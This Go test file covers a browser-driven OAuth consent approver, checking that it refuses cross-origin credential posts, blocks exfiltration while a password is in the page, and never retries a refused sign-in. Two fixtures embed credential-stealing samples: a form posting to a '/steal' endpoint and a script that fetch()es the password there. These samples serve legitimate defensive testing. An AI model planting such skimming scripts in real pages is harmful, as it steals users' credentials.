package approve

import (
	"context"
	"errors"
	"fmt"
	"html"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/mcpauth/mcpauth/conformance"
	"github.com/mcpauth/mcpauth/internal/syncbuf"
	"github.com/mcpauth/mcpauth/internal/testenv"
	"github.com/mcpauth/mcpauth/server/browsertest"
)

func TestMain(m *testing.M) { os.Exit(testenv.Main(m)) }

const (
	testUser     = "alice@example.com"
	testPassword = "correct horse battery staple"
	redirectURI  = "http://127.0.0.1:43117/callback"
)

func newApprover(t *testing.T, opts BrowserOptions) *BrowserApprover {
	t.Helper()
	opts.Chromium = browsertest.Require(t)
	if opts.Step == 0 {
		opts.Step = 5 * time.Second
	}
	a, err := NewBrowserApprover(opts)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { a.Close() })
	return a
}

func authURL(base string) string {
	return base + "/authorize?" + url.Values{"redirect_uri": {redirectURI}, "state": {"st"}}.Encode()
}

func approveWithin(t *testing.T, a *BrowserApprover, base string) (*url.URL, error) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	return a.ApproveConsent(ctx, authURL(base))
}

// counter is another origin that counts every request it gets.
func counter(t *testing.T) (*httptest.Server, *atomic.Int32) {
	var n atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		n.Add(1)
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	t.Cleanup(srv.Close)
	return srv, &n
}

func writePage(w http.ResponseWriter, body string) {
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	fmt.Fprint(w, "<!doctype html><title>Sign in</title>"+body)
}

const consentPage = `<form method="post" action="/consent"><button name="action" value="deny">Deny</button> <button name="action" value="approve">Allow</button></form>`

// A sign-in form on the authorization server's page that posts to another
// origin: the approver types nothing and posts nothing, and says why.
func TestBrowserSendsNoPasswordToAnotherOrigin(t *testing.T) {
	other, hits := counter(t)
	as := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		writePage(w, fmt.Sprintf(`<form method="post" action="%s/steal"><input name="email"> <input type="password" name="password"> <button>Sign in</button></form>`, other.URL))
	}))
	defer as.Close()
	a := newApprover(t, BrowserOptions{Username: testUser, Password: testPassword})
	u, err := approveWithin(t, a, as.URL)
	if err == nil || !strings.Contains(err.Error(), "another origin") {
		t.Errorf("ApproveConsent = %v, %v; want an error naming another origin", u, err)
	}
	if strings.Contains(fmt.Sprint(err), testPassword) {
		t.Errorf("the error shows the password: %v", err)
	}
	if n := hits.Load(); n != 0 || a.SignIns() != 0 {
		t.Errorf("the other origin got %d requests, %d sign-ins; want none", n, a.SignIns())
	}
}

// A sign-in form that posts back to its origin, but whose script sends
// the password elsewhere first: while the password is in the page the
// guard lets nothing reach another origin, and the sign-in goes on.
func TestBrowserGuardStopsAScriptSendingThePassword(t *testing.T) {
	other, hits := counter(t)
	as := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case r.Method == http.MethodPost && r.URL.Path == "/signin":
			http.SetCookie(w, &http.Cookie{Name: "s", Value: "ok", Path: "/"})
			http.Redirect(w, r, "/authorize?"+r.URL.RawQuery, http.StatusSeeOther)
		case r.Method == http.MethodPost && r.URL.Path == "/consent":
			http.Redirect(w, r, redirectURI+"?code=c&state=st", http.StatusFound)
		case r.URL.Path == "/authorize":
			if c, err := r.Cookie("s"); err == nil && c.Value == "ok" {
				writePage(w, consentPage)
				return
			}
			writePage(w, fmt.Sprintf(`<form id="f" method="post" action="/signin?%s"><input name="email"> <input type="password" id="p" name="password"> <button>Sign in</button></form>
<script>
document.getElementById('f').addEventListener('submit', (e) => {
  e.preventDefault();
  const p = document.getElementById('p').value;
  fetch(%q + '/steal', {method: 'POST', body: p, mode: 'no-cors'}).catch(() => {}).finally(() => e.target.submit());
});
</script>`, html.EscapeString(r.URL.RawQuery), other.URL))
		}
	}))
	defer as.Close()
	a := newApprover(t, BrowserOptions{Username: testUser, Password: testPassword})
	u, err := approveWithin(t, a, as.URL)
	if err != nil || u.Query().Get("code") != "c" {
		t.Fatalf("ApproveConsent = %v, %v; want the redirect with the code", u, err)
	}
	if n := hits.Load(); n != 0 {
		t.Errorf("the other origin got %d requests while the password was in the page, want none", n)
	}
}

// The browser keeps the session: a second authorization meets only the
// consent page. A sign-in that does not take is not tried again, in that
// authorization or a later one (an account that locks stays unlocked).
func TestBrowserSignsInOnceAndNeverRetriesARefusal(t *testing.T) {
	var posts atomic.Int32
	var wrong atomic.Bool
	as := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case r.Method == http.MethodPost && r.URL.Path == "/signin":
			posts.Add(1)
			if wrong.Load() || r.PostFormValue("username") != testUser || r.PostFormValue("password") != testPassword {
				writePage(w, `<p>Wrong password.</p><form method="post" action="/signin"><input name="username"> <input type="password" name="password"> <button>Sign in</button></form>`)
				return
			}
			http.SetCookie(w, &http.Cookie{Name: "s", Value: "ok", Path: "/"})
			http.Redirect(w, r, r.PostFormValue("back"), http.StatusSeeOther)
		case r.Method == http.MethodPost && r.URL.Path == "/consent":
			http.Redirect(w, r, redirectURI+"?code="+r.PostFormValue("action")+"&state=st", http.StatusFound)
		case r.URL.Path == "/authorize":
			if c, err := r.Cookie("s"); err == nil && c.Value == "ok" {
				writePage(w, consentPage)
				return
			}
			writePage(w, fmt.Sprintf(`<form method="post" action="/signin"><input type="hidden" name="back" value="%s"><input name="username"> <input type="password" name="password"> <button>Sign in</button></form>`, html.EscapeString(r.URL.RequestURI())))
		}
	}))
	defer as.Close()

	a := newApprover(t, BrowserOptions{Username: testUser, Password: testPassword})
	for i := range 3 {
		u, err := approveWithin(t, a, as.URL)
		if err != nil || u.Query().Get("code") != "approve" {
			t.Fatalf("authorization %d = %v, %v; want the approved redirect", i, u, err)
		}
	}
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if u, err := a.DenyConsent(ctx, authURL(as.URL)); err != nil || u.Query().Get("code") != "deny" {
		t.Fatalf("DenyConsent = %v, %v; want the denied redirect", u, err)
	}
	if n := posts.Load(); n != 1 || a.SignIns() != 1 {
		t.Errorf("%d sign-in posts (%d counted), want 1 for four authorizations", n, a.SignIns())
	}

	wrong.Store(true)
	refused := newApprover(t, BrowserOptions{Username: testUser, Password: "wrong"})
	if _, err := approveWithin(t, refused, as.URL); err == nil || !strings.Contains(err.Error(), "did not take") {
		t.Errorf("wrong password: %v, want the sign-in reported as not taken", err)
	}
	if _, err := approveWithin(t, refused, as.URL); err == nil || !strings.Contains(err.Error(), "not signing in again") {
		t.Errorf("after a refusal: %v, want no second try", err)
	}
	if n := posts.Load(); n != 2 {
		t.Errorf("%d sign-in posts in all, want 2: one for the refused approver", n)
	}
}

// Interactive: the approver fills nothing, tells the person to sign in,
// waits while they do (here the page signs them in after a few reloads),
// then presses consent by itself.
func TestBrowserInteractiveWaitsForThePerson(t *testing.T) {
	var shown, posts atomic.Int32
	as := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case r.Method == http.MethodPost && r.URL.Path == "/signin":
			posts.Add(1)
		case r.Method == http.MethodPost && r.URL.Path == "/consent":
			http.Redirect(w, r, redirectURI+"?code=c&state=st", http.StatusFound)
		case r.URL.Path == "/authorize":
			if c, err := r.Cookie("s"); err == nil && c.Value == "ok" {
				writePage(w, consentPage)
				return
			}
			if shown.Add(1) > 3 { // the person has typed and pressed
				http.SetCookie(w, &http.Cookie{Name: "s", Value: "ok", Path: "/"})
				http.Redirect(w, r, r.URL.RequestURI(), http.StatusSeeOther)
				return
			}
			writePage(w, `<meta http-equiv="refresh" content="1"><form method="post" action="/signin"><input name="username"> <input type="password" name="password"> <button>Sign in</button></form>`)
		}
	}))
	defer as.Close()
	var prompt syncbuf.Buffer
	a := newApprover(t, BrowserOptions{Interactive: true, Prompt: &prompt, SignIn: 20 * time.Second})
	for i := range 2 {
		if u, err := approveWithin(t, a, as.URL); err != nil || u.Query().Get("code") != "c" {
			t.Fatalf("authorization %d = %v, %v; want the redirect", i, u, err)
		}
	}
	if posts.Load() != 0 || a.SignIns() != 0 {
		t.Errorf("the approver posted the sign-in form %d times, want never", posts.Load())
	}
	if got := prompt.String(); strings.Count(got, "Sign in as the test user") != 1 {
		t.Errorf("prompt %q, want one request to sign in", got)
	}
}

// Device codes and Settings are beyond it: those checks are skipped with
// the reason, as for --browser-command.
func TestBrowserSkipsDeviceCodes(t *testing.T) {
	var a BrowserApprover
	var skip *conformance.SkipError
	if err := a.ApproveDevice(context.Background(), "http://127.0.0.1/device", "ABCD"); !errors.As(err, &skip) {
		t.Errorf("ApproveDevice = %v, want a skip", err)
	}
}
